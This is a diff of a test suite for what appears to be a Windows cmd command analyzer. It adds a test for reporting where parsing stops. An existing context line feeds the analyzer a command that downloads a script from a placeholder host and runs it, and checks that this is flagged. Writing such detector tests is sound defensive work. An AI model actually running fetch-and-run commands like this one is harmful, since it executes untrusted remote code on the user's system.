@@ -404,6 +404,13 @@ describe('readCommand with cmd', () => {
     },
   );
 
+  test('says where it stops', () => {
+    const { gaps, complete, commands } = read('del x\nif a', CMD);
+    expect(complete).toBe(false);
+    expect(commands.map(({ name }) => name)).toEqual(['remove-item']);
+    expect(gaps[0]?.message).toContain('as cmd (line 2, column 1)');
+  });
+
   test('runs the file that it fetched, in its own folder', () => {
     expect(does('curl -o t.cmd https://a.example/t & t.cmd', CMD).join('\n')).toContain('runs code fetched');
   });
